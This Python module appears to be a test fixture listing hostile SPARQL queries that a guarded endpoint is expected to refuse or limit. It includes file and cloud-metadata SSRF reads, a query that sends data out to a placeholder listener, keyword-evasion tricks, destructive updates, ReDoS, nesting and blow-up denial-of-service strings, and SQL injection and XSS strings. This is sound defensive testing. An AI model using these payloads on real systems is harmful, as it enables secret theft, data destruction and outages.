"""Queries that somebody would send to break in, to break down or to slow down: each by name, grouped by what it tries.

``{here}`` is the address of a listener on this machine, ``{file}`` that of a file with a secret in it.
"""

from __future__ import annotations

from collections.abc import Mapping

__all__ = ["HARMLESS", "HOSTILE", "LIMITED"]


def _deep(before: str, opening: str, inside: str, closing: str, after: str, times: int) -> str:
    return before + opening * times + inside + closing * times + after


_FROM = {
    "file": "SELECT * FROM <{file}> { ?s ?p ?o }",
    "file named": "SELECT * FROM NAMED <{file}> { GRAPH ?g { ?s ?p ?o } }",
    "password file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "file without slashes": "SELECT * FROM <file:/etc/passwd> { ?s ?p ?o }",
    "own memory": "SELECT * FROM <file:///proc/self/environ> { ?s ?p ?o }",
    "http": "SELECT * FROM <{here}> { ?s ?p ?o }",
    "http named": "SELECT * FROM NAMED <{here}> { GRAPH ?g { ?s ?p ?o } }",
    "metadata of a cloud": "ASK FROM <http://169.254.169.254/latest/meta-data/> { ?s ?p ?o }",
    "ftp": "SELECT * FROM <ftp://127.0.0.1/x> { ?s ?p ?o }",
    "data": "SELECT * FROM <data:text/turtle,%3Cx:a%3E> { ?s ?p ?o }",
    "relative": "SELECT * FROM <../../etc/passwd> { ?s ?p ?o }",
    "base": "BASE <file:///etc/> SELECT * FROM <passwd> { ?s ?p ?o }",
    "prefix": "PREFIX f: <file:///etc/> SELECT * FROM f:passwd { ?s ?p ?o }",
    "empty prefix": "PREFIX : <file:///etc/> SELECT * FROM :passwd { ?s ?p ?o }",
    "glued": "PREFIX : <file:///etc/> SELECT * FROM:passwd { ?s ?p ?o }",
    "small letters": "select * from<{file}>{ ?s ?p ?o }",
    "after a comment": "SELECT * FROM # <https://w3id.org/zichtlijn/def>\n<{file}> { ?s ?p ?o }",
    "beside a known graph": "SELECT * FROM <https://w3id.org/zichtlijn/def> FROM <{file}> { ?s ?p ?o }",
    "construct": "CONSTRUCT { ?s ?p ?o } FROM <{file}> { ?s ?p ?o }",
    "construct where": "CONSTRUCT FROM <{file}> WHERE { ?s ?p ?o }",
    "describe": "DESCRIBE ?s FROM <{file}> { ?s ?p ?o }",
    "escaped": "SELECT * FR\\u004FM <{file}> { ?s ?p ?o }",
    "escaped address": "SELECT * FROM <\\u0066ile:///etc/passwd> { ?s ?p ?o }",
}

_SERVICE = {
    "plain": "SELECT * { SERVICE <{here}> { ?s ?p ?o } }",
    "silent": "SELECT * { SERVICE SILENT <{here}> { ?s ?p ?o } }",
    "small letters": "select * { service <{here}> { ?s ?p ?o } }",
    "mixed letters": "SELECT * { SeRvIcE <{here}> { ?s ?p ?o } }",
    "without space": "SELECT*{SERVICE<{here}>{?s ?p ?o}}",
    "variable": "SELECT * { VALUES ?x { <{here}> } SERVICE ?x { ?s ?p ?o } }",
    "glued to a name": "PREFIX : <{here}> SELECT * { SERVICE:x{ ?s ?p ?o } }",
    "glued to a number": "PREFIX : <{here}> SELECT * { ?s ?p 1SERVICE:x{ ?a ?b ?c } }",
    "glued to a word": "PREFIX : <{here}> SELECT * { ?s ?p trueSERVICE:x{ ?a ?b ?c } }",
    "glued to a name with a dot": "PREFIX : <{here}> PREFIX a: <urn:> SELECT * { ?s ?p a:b.SERVICE:x{ ?a ?b ?c } }",
    "glued to silent": "PREFIX : <{here}> SELECT * { SERVICESILENT:x{ ?s ?p ?o } }",
    "after a comment": "SELECT * { SERVICE # no\n <{here}> { ?s ?p ?o } }",
    "optional": "SELECT * { ?s ?p ?o OPTIONAL { SERVICE <{here}> { ?s ?p ?o } } }",
    "union": "SELECT * { { ?s ?p ?o } UNION { SERVICE <{here}> { ?s ?p ?o } } }",
    "minus": "SELECT * { ?s ?p ?o MINUS { SERVICE <{here}> { ?s ?p ?o } } }",
    "exists": "SELECT * { ?s ?p ?o FILTER EXISTS { SERVICE <{here}> { ?s ?p ?o } } }",
    "exists in an expression": "SELECT (EXISTS { SERVICE <{here}> { ?s ?p ?o } } AS ?x) {}",
    "sub-select": "SELECT * { { SELECT ?s { SERVICE <{here}> { ?s ?p ?o } } } }",
    "in a graph": "SELECT * { GRAPH ?g { SERVICE <{here}> { ?s ?p ?o } } }",
    "construct": "CONSTRUCT { ?s ?p ?o } { SERVICE <{here}> { ?s ?p ?o } }",
    "ask": "ASK { SERVICE <{here}> { ?s ?p ?o } }",
    "describe": "DESCRIBE ?s { SERVICE <{here}> { ?s ?p ?o } }",
    "order by": "SELECT * { ?s ?p ?o } ORDER BY (EXISTS { SERVICE <{here}> { ?s ?p ?o } })",
    "having": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o } HAVING (EXISTS { SERVICE <{here}> { ?s ?p ?o } })",
    "after another service": "SELECT * { SERVICE <{here}> { SERVICE <{here}> { ?s ?p ?o } } }",
    "file": "SELECT * { SERVICE <{file}> { ?s ?p ?o } }",
    "metadata of a cloud": "SELECT * { SERVICE <http://169.254.169.254/> { ?s ?p ?o } }",
    "secret sent away": 'SELECT * { ?s ?p ?o BIND(IRI(CONCAT("{here}?", STR(?o))) AS ?x) SERVICE ?x { ?a ?b ?c } }',
    "escaped": "SELECT * { \\u0053ERVICE <{here}> { ?s ?p ?o } }",
    "escaped long": "SELECT * { \\U00000053ERVICE <{here}> { ?s ?p ?o } }",
    "escaped within": "SELECT * { SERV\\u0049CE <{here}> { ?s ?p ?o } }",
    "escaped twice": "SELECT * { \\u005Cu0053ERVICE <{here}> { ?s ?p ?o } }",
    "escaped out of a string": 'SELECT * { ?s ?p "\\u0022 . SERVICE <{here}> { ?s ?p ?o } #" }',
    "wide letters": "SELECT * { ＳＥＲＶＩＣＥ <{here}> { ?s ?p ?o } }",
    "space without width": "SELECT * { SERV\u200bICE <{here}> { ?s ?p ?o } }",
    "prefix of that name": "PREFIX SERVICE: <{here}> SELECT * { SERVICE:x ?p ?o }",
}

_UPDATE = {
    "load": "LOAD <{here}>",
    "load a file": "LOAD <{file}>",
    "load silently": "LOAD SILENT <{here}> INTO GRAPH <urn:g>",
    "insert": "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "insert where": "INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
    "delete": "DELETE WHERE { ?s ?p ?o }",
    "delete data": "DELETE DATA { <urn:a> <urn:b> <urn:c> }",
    "clear": "CLEAR ALL",
    "drop": "DROP SILENT ALL",
    "create": "CREATE GRAPH <urn:g>",
    "copy": "COPY DEFAULT TO <urn:g>",
    "move": "MOVE <urn:g> TO DEFAULT",
    "add": "ADD DEFAULT TO <urn:g>",
    "with": "WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "after a query": "SELECT * { ?s ?p ?o } ; DROP ALL",
    "after a query and a prefix": "ASK {} ; PREFIX x: <urn:x> CLEAR ALL",
}

_DEEP = {
    "10,000 parentheses": _deep("SELECT * { FILTER", "(", "1", ")", " }", 10_000),
    "9,000 braces": _deep("SELECT * ", "{", "", "}", "", 9_000),
    "9,000 brackets": _deep("SELECT * { ?s ?p ", "[", "", "]", " }", 9_000),
    "only opened": "SELECT * " + "{" * 10_000,
    "only closed": "SELECT * " + "}" * 10_000,
    "2,000 braces": _deep("SELECT * ", "{", "", "}", "", 2_000),
    "65 parentheses": _deep("SELECT * { FILTER", "(", "1", ")", " }", 65),
    "65 braces": _deep("SELECT * ", "{", "", "}", "", 65),
    "optionals": _deep("SELECT * { ", "OPTIONAL { ?s ?p ?o ", "", "}", " }", 500),
    "exists": _deep("SELECT * { ", "FILTER NOT EXISTS { ", "", "}", " }", 500),
    "sub-selects": _deep("SELECT * ", "{ SELECT * ", "{}", "}", "", 500),
    "unions": _deep("SELECT * ", "{ {} UNION ", "{}", "}", "", 500),
    "functions": _deep("SELECT (", "STR(", "1", ")", " AS ?x) {}", 500),
    "paths": _deep("SELECT * { ?s ", "(", "<urn:p>", ")*", " ?o }", 500),
    "lists": _deep("SELECT * { ?s ?p ", "( ", "", ")", " }", 500),
    "graphs": _deep("SELECT * ", "{ GRAPH ?g ", "{}", "}", "", 500),
    "triples as terms": _deep("SELECT * { ?s ?p ", "<< ", "?s ?p ?o", " >>", " }", 500),
    "4,000 times not": "SELECT * { FILTER(" + "!" * 4_000 + "true) }",
    "4,000 times minus": "SELECT (" + "- " * 4_000 + "1 AS ?x) {}",
    "4,000 times back": "SELECT * { ?s " + "^" * 4_000 + "<urn:p> ?o }",
    "10,000 words": "SELECT * { ?s ?p ?o " + ". " * 9_000 + "}",
}

_LARGE = {
    "values": "SELECT * { VALUES ?x { " + "1 " * 9_000 + "} }",
    "values of two": "SELECT * { VALUES (?x ?y) { " + "(1 2) " * 3_000 + "} }",
    "long text": "SELECT * { ?s ?p '" + "x" * 30_000 + "' }",
    "long name": "SELECT ?" + "x" * 30_000 + " {}",
    "long comment": "SELECT * {} #" + "x" * 30_000,
    "long address": "SELECT * { <urn:" + "x" * 30_000 + "> ?p ?o }",
    "long number": "SELECT (" + "9" * 30_000 + " AS ?x) {}",
    "white space": "SELECT * {" + " " * 30_000 + "}",
    "list": "SELECT * { FILTER(1 IN (" + "1," * 9_000 + "1)) }",
    "sum": "SELECT (" + "1+" * 9_000 + "1 AS ?x) {}",
}

_PATTERN = {
    "long": "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), '" + "(a+)+" * 30 + "$')) }",
    "made of pieces": "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?o), CONCAT('^(a+)+', '$'))) }",
    "from the data": "SELECT * { ?s ?p ?o FILTER(REGEX(STR(?s), STR(?o))) }",
    "repeated": "SELECT (REGEX('x', REPLACE('aaaaaaaaaa', 'a', '(a+)+')) AS ?x) {}",
    "bound": "SELECT * { BIND('^(a+)+$' AS ?r) ?s ?p ?o FILTER(REGEX(STR(?o), ?r)) }",
    "of a replacement": "SELECT (REPLACE('aaaa', '" + "(a|aa)+" * 20 + "', 'b') AS ?x) {}",
}

_BROKEN = {
    "nothing": "",
    "spaces": "  \n ",
    "words": "geef mij alles",
    "sql": "' OR 1=1; DROP TABLE actoren; --",
    "script": "<script>alert(1)</script>",
    "null": "SELECT * { ?s ?p \x00 }",
    "open text": "SELECT * { ?s ?p 'x }",
    "open long text": 'SELECT * { ?s ?p """x }',
    "half an escape": "SELECT * { ?s ?p '\\' }",
    "unknown escape": "SELECT * { ?s ?p '\\x41' }",
    "open address": "SELECT * { <urn:x ?p ?o }",
    "two queries": "ASK {} ASK {}",
    "unknown prefix": "SELECT * { ?s onbekend:p ?o }",
    "mark in front": "\ufeff\ufeffASK {",
    "right to left": "SELECT * { \u202e?s ?p ?o }",
    "only a prefix": "PREFIX x: <urn:x>",
    "aggregate without": "SELECT ?x (SUM(?x) AS ?n) { ?x ?p ?o } GROUP BY",
}

_OPEN = {
    "join without a variable in common": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "the same with a filter": "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i FILTER(STR(?a) = CONCAT(STR(?i), STR(?f))) }",
    "distinct": "SELECT (COUNT(DISTINCT ?x) AS ?n) { ?a ?b ?c . ?d ?e ?f BIND(CONCAT(STR(?a), STR(?f)) AS ?x) }",
    "sorted": "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY DESC(?c) ?f LIMIT 1",
    "sub-select": "SELECT (COUNT(*) AS ?n) { { SELECT ?a ?b { ?a ?x ?y . ?b ?z ?w } } ?c ?p ?q }",
    "optional": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c OPTIONAL { ?d ?e ?f . ?g ?h ?i FILTER(?c < ?i) } }",
    "minus": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f MINUS { ?a ?x ?y . ?d ?z ?y } }",
    "not exists": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER NOT EXISTS { ?c ?x ?f . ?f ?y ?c } }",
    "union": "SELECT (COUNT(*) AS ?n) { { ?a ?b ?c . ?d ?e ?f } UNION { ?a ?b ?c . ?g ?h ?i } ?x ?y ?z }",
    "values of values": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"VALUES ?v{n} {{ 1 2 3 4 5 6 7 8 9 }}" for n in range(12))
    + " }",
    "graphs": "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?a ?b ?c } GRAPH ?h { ?d ?e ?f } GRAPH ?i { ?j ?k ?l } }",
    "path of everything": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>)* ?b }",
    "path both ways": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>|!^<urn:x>)+ ?b . ?b (!<urn:x>)* ?c }",
    "path of paths": "SELECT (COUNT(*) AS ?n) { ?a ((!<urn:x>)+/(!<urn:x>)+)+ ?b }",
    "path in exists": "SELECT (COUNT(*) AS ?n) { ?a ?p ?b . ?c ?q ?d FILTER EXISTS { ?a (!<urn:x>)+ ?d } }",
    "paths in a row": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>)*/(!<urn:y>)*/(!<urn:z>)* ?b }",
    "pattern on everything": "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(CONCAT(STR(?c), STR(?f)), '^(a+)+$')) }",
    "replaced everywhere": "SELECT (MAX(?x) AS ?m) { ?a ?b ?c . ?d ?e ?f BIND(REPLACE(?c, '(.)', '$1$1') AS ?x) }",
    "hashes": "SELECT (MAX(?x) AS ?m) { ?a ?b ?c . ?d ?e ?f BIND(SHA512(CONCAT(STR(?c), STR(?f))) AS ?x) }",
    "one text of all": "SELECT (STRLEN(GROUP_CONCAT(?c)) AS ?n) { ?a ?b ?c . ?d ?e ?f }",
    "one text of all texts": "SELECT (GROUP_CONCAT(CONCAT(?c, ?f); SEPARATOR = '--') AS ?t) { ?a ?b ?c . ?d ?e ?f }",
    "a text for each": "SELECT ?a (GROUP_CONCAT(?f) AS ?t) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a",
    "random order": "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY RAND() LIMIT 1",
    "fresh names": "SELECT (COUNT(DISTINCT ?x) AS ?n) { ?a ?b ?c . ?d ?e ?f BIND(UUID() AS ?x) }",
    "everything": "SELECT * { ?s ?p ?o }",
    "everything twice": "SELECT * { ?s ?p ?o . ?a ?b ?c }",
    "everything as a graph": "CONSTRUCT { ?s ?p ?o } { ?s ?p ?o }",
    "new names": "CONSTRUCT { [] ?p [ ?b [] ] } { ?s ?p ?o . ?a ?b ?c }",
    "product as a graph": "CONSTRUCT { ?s ?b ?o . ?a ?p ?c . ?s ?p ?c } { ?s ?p ?o . ?a ?b ?c }",
    "many triples for one": "CONSTRUCT { " + " ".join(f"?s <urn:{n}> ?o ." for n in range(200)) + " } { ?s ?p ?o }",
    "described": "DESCRIBE ?s { ?s ?p ?o }",
    "described all": "DESCRIBE ?s ?o ?a ?c { ?s ?p ?o . ?a ?b ?c }",
}


def _doubled(times: int, made: str) -> str:
    steps = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(times))
    return f"SELECT ({made.format(f'?x{times}')} AS ?n) {{ BIND('abcdefghij' AS ?x0) {steps} }}"


_DOUBLED = {
    "doubled to gigabytes": _doubled(28, "STRLEN({})"),
    "doubled to too much for an answer": _doubled(20, "{}"),
    "doubled and encoded": _doubled(26, "STRLEN(ENCODE_FOR_URI({}))"),
    "doubled and in capitals": _doubled(27, "STRLEN(UCASE({}))"),
    "replaced into much": "SELECT (STRLEN("
    + _deep("", "REPLACE(", "'abcdefghij'", ", '(.)', '$1$1$1$1$1$1$1$1')", "", 9)
    + ") AS ?n) {}",
}

HOSTILE: Mapping[str, Mapping[str, str]] = {
    "from": _FROM, "service": _SERVICE, "update": _UPDATE, "deep": _DEEP, "large": _LARGE, "pattern": _PATTERN,
    "broken": _BROKEN,
}  # fmt: skip
"""Refused before anything runs."""

LIMITED: Mapping[str, Mapping[str, str]] = {"open": _OPEN, "doubled": _DOUBLED}
"""SPARQL like any other, but without end: they meet a limit."""

HARMLESS: Mapping[str, str] = {
    "evil pattern, linear here": "SELECT (REGEX('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '^(a+)+$') AS ?x) {}",
    "the word in a text": "SELECT * { ?s ?p 'SERVICE <http://x> FROM <file:x> LOAD' }",
    "the word in a comment": "SELECT * { ?s ?p 'x' } # SERVICE <http://127.0.0.1/> { LOAD",
    "the word in a name": "SELECT ?service ?from { ?service zl:ServiceCapacity ?from }",
    "the word in an address": "ASK { <urn:SERVICE> <urn:FROM> <urn:LOAD> }",
    "a graph that is not there": "SELECT * { GRAPH <file:///etc/passwd> { ?s ?p ?o } }",
    "60 braces": _deep("SELECT * ", "{", "", "}", "", 60),
    "20 deep": _deep("SELECT * { FILTER", "(", "1 = 1", ")", " }", 20),
}
"""What only looks hostile is answered."""
